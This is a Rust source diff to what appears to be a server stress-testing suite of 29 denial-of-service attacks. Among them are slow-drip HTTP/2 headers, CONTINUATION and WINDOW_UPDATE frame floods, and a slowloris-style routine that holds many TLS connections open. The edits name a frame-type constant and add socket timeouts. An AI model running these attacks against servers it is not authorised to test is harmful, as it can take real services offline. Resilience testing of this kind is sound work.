@@ -38,7 +38,7 @@ pub const ATTACKS: [(&str, Target, Attack); 29] = [
     }),
     ("HTTP/2 heads that drip", Clear, |address, stop| {
         let head = Frame::new(HEADERS, 0, 1, []);
-        let more = Frame::new(9, 0, 1, []).bytes();
+        let more = Frame::new(CONTINUATION, 0, 1, []).bytes();
         drip(address, stop, 300, move |_| opening(&[], std::slice::from_ref(&head)), &more);
     }),
     ("TLS handshakes that stall", Tls, |address, stop| {
@@ -110,7 +110,7 @@ pub const ATTACKS: [(&str, Target, Attack); 29] = [
     }),
     ("CONTINUATION", Clear, |address, stop| {
         frames(address, stop, |n| {
-            vec![if n == 0 { Frame::new(HEADERS, 0, 1, []) } else { Frame::new(9, 0, 1, [0; 10]) }]
+            vec![if n == 0 { Frame::new(HEADERS, 0, 1, []) } else { Frame::new(CONTINUATION, 0, 1, [0; 10]) }]
         });
     }),
     ("WINDOW_UPDATE", Clear, |address, stop| frames(address, stop, |_| vec![Frame::window_update(0, 1)])),
@@ -157,12 +157,18 @@ fn bomb(n: u32) -> Vec<Frame> {
 
 /// As many connections as a server has workers several times over, each with a head that does not end, over TLS.
 fn heads_over_tls(address: SocketAddr, stop: &AtomicBool) {
+    let config = tls::anyone(&[]);
+    let connect = || {
+        let socket = TcpStream::connect_timeout(&address, Duration::from_secs(1)).ok()?;
+        socket.set_read_timeout(Some(Duration::from_secs(1))).ok()?;
+        Some(tls::connect(socket, address, &config))
+    };
     let mut sessions = Vec::new();
     sessions.resize_with(100, || None);
     while !stop.load(Ordering::SeqCst) {
         for place in sessions.iter_mut().take_while(|_| !stop.load(Ordering::SeqCst)) {
             let begins = place.is_none();
-            let session = place.take().or_else(|| tls::connect(address).ok());
+            let session = place.take().or_else(connect);
             let more: &[u8] = if begins { b"GET / HTTP/1.1\r\nHost: x\r\nA: " } else { b"a" };
             *place = session.and_then(|mut session| {
                 session.write_all(more).and_then(|()| session.flush()).ok()?;
